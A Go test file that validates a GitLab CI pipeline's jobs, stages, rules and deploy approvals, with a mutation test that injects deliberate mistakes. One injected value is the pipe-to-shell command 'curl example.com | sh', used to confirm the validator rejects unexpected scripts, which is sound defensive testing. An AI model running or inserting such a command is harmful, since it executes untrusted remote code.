package main

import (
	"bytes"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"testing"

	"go.yaml.in/yaml/v3"
)

// A gitlabJob is a job of docs/gitlab-ci.yml, with the keywords that it may use. A misspelled keyword, or a value of
// another type, does not decode. GitLab's own schema of all keywords is app/assets/javascripts/editor/schema/ci.json of
// gitlabhq/gitlabhq.
// https://docs.gitlab.com/ci/yaml/
type gitlabJob struct {
	Image       string                       `yaml:"image"`
	Stage       string                       `yaml:"stage"`
	IDTokens    map[string]map[string]string `yaml:"id_tokens"`
	Before      []string                     `yaml:"before_script"`
	Script      []string                     `yaml:"script"`
	Variables   map[string]string            `yaml:"variables"`
	Environment yaml.Node                    `yaml:"environment"`
	Group       string                       `yaml:"resource_group"`
	Needs       []string                     `yaml:"needs"`
	Parallel    struct {
		Matrix []map[string][]string `yaml:"matrix"`
	} `yaml:"parallel"`
	Artifacts struct {
		Paths []string `yaml:"paths"`
	} `yaml:"artifacts"`
	Rules []struct {
		If   string `yaml:"if"`
		When string `yaml:"when"`
	} `yaml:"rules"`
}

var deliverTask = regexp.MustCompile(`(?m)^([a-z|]+)\)`)

// gitlabPipeline returns what is wrong with a pipeline for GitLab. tasks are those of .ci/deliver.
func gitlabPipeline(text []byte, tasks []string) (jobs map[string]gitlabJob, problems []string) {
	var file map[string]yaml.Node
	if err := yaml.Unmarshal(text, &file); err != nil {
		return nil, []string{err.Error()}
	}
	var stages []string
	jobs = map[string]gitlabJob{}
	for name, node := range file {
		if name == "stages" {
			if err := node.Decode(&stages); err != nil {
				problems = append(problems, "stages: "+err.Error())
			}
			continue
		}
		// Only a decoder of texts refuses unknown keys.
		inner, err := yaml.Marshal(&node)
		if err != nil {
			problems = append(problems, name+": "+err.Error())
			continue
		}
		var job gitlabJob
		decoder := yaml.NewDecoder(bytes.NewReader(inner))
		decoder.KnownFields(true)
		if err := decoder.Decode(&job); err != nil {
			problems = append(problems, name+": "+err.Error())
		}
		jobs[name] = job
	}
	for name, job := range jobs {
		for _, problem := range job.problems(name, stages, jobs, tasks) {
			problems = append(problems, name+": "+problem)
		}
	}
	slices.Sort(problems)
	return jobs, problems
}

func (j gitlabJob) problems(name string, stages []string, jobs map[string]gitlabJob, tasks []string) []string {
	if name == "default" {
		return nil
	}
	var problems []string
	if !slices.Contains(stages, j.Stage) {
		problems = append(problems, "stage "+j.Stage+" is none of the pipeline")
	}
	if len(j.Script) != 1 || !slices.Contains([]string{".ci/run", ".ci/deliver"}, j.Script[0]) {
		problems = append(problems, "runs something else than .ci/run or .ci/deliver")
	}
	if task := j.Variables["TASK"]; slices.Contains(j.Script, ".ci/deliver") && !slices.Contains(tasks, task) {
		problems = append(problems, "task "+task+" is none of .ci/deliver")
	}
	for _, needed := range j.Needs {
		if _, found := jobs[needed]; !found {
			problems = append(problems, "needs "+needed+", which is no job")
		}
	}
	for _, rule := range j.Rules {
		if rule.If == "" || !slices.Contains([]string{"", "manual"}, rule.When) {
			problems = append(problems, "has a rule without a condition, or when: "+rule.When)
		}
	}
	// Two deploys of a stage never run at once, and each is approved as the stage's environment says.
	stage, deploys := j.Variables["STAGE"], j.Variables["TASK"] == "deploy"
	if deploys && (j.Environment.Value != stage || j.Group != stage) {
		problems = append(problems, "deploys without its environment and its resource group")
	}
	return problems
}

func gitlabFile(t *testing.T) (pipeline []byte, tasks []string) {
	t.Helper()
	root := filepath.Join("..", "..")
	pipeline, err := os.ReadFile(filepath.Join(root, "docs", "gitlab-ci.yml"))
	if err != nil {
		t.Fatal(err)
	}
	deliver, err := os.ReadFile(filepath.Join(root, ".ci", "deliver"))
	if err != nil {
		t.Fatal(err)
	}
	for _, found := range deliverTask.FindAllSubmatch(deliver, -1) {
		tasks = append(tasks, string(found[1]))
	}
	return pipeline, tasks
}

func TestPipelineForGitLabIsWellFormed(t *testing.T) {
	text, tasks := gitlabFile(t)
	jobs, problems := gitlabPipeline(text, tasks)
	for _, problem := range problems {
		t.Error(problem)
	}
	for _, name := range []string{"default", "check", "differences", "dev", "staging", "prod"} {
		if _, found := jobs[name]; !found {
			t.Errorf("there is no job %s", name)
		}
	}
	if prod := jobs["prod"]; len(prod.Rules) != 1 || prod.Rules[0].When != "manual" {
		t.Error("prod is deployed without anybody's approval")
	}
}

func TestMistakeInThePipelineForGitLabIsFound(t *testing.T) {
	text, tasks := gitlabFile(t)
	for from, to := range map[string]string{
		"stage: check":           "stage: chek",
		"script:\n    - .ci/":    "scripts:\n    - .ci/",
		"- .ci/deliver":          "- curl example.com | sh",
		"TASK: deploy":           "TASK: deplyo",
		"needs: [staging]":       "needs: [stage]",
		"when: manual":           "when: manually",
		"environment: Prod":      "environment: Dev",
		"stages: [":              "stages: {",
		"resource_group: Prod\n": "",
	} {
		changed := bytes.Replace(text, []byte(from), []byte(to), 1)
		if bytes.Equal(changed, text) {
			t.Errorf("%q is not in the pipeline", from)
		}
		if _, problems := gitlabPipeline(changed, tasks); len(problems) == 0 {
			t.Errorf("%q instead of %q is not found", to, from)
		}
	}
}
